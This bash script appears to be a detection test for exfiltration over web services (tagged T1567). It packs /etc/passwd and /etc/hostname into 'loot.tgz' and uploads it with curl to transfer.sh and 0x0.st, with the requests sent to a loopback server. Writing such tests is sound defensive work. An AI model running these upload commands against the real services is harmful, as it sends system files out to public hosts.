#!/bin/bash
# Upload a file to file-drop and paste services by name (transfer.sh, 0x0.st) with curl -T and --data-binary; the names resolve to a loopback web server (curl --resolve), so nothing leaves the host.
# technique: T1567
# expect: upload-to-web-service
set -eu
port=$((20000 + ($$ + 7) % 20000))
mkdir -p "$TPY_WORK/www"
/usr/bin/python3 -m http.server --bind 127.0.0.1 -d "$TPY_WORK/www" "$port" > /dev/null 2>&1 &
server=$!
for _ in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$port/" && break; sleep 0.1; done
tar czf "$TPY_WORK/loot.tgz" -C /etc hostname passwd
curl -s -o /dev/null --resolve "transfer.sh:$port:127.0.0.1" -T "$TPY_WORK/loot.tgz" "http://transfer.sh:$port/loot.tgz"
curl -s -o /dev/null --resolve "0x0.st:$port:127.0.0.1" --data-binary "@$TPY_WORK/loot.tgz" "http://0x0.st:$port/"
kill "$server"
wait || true
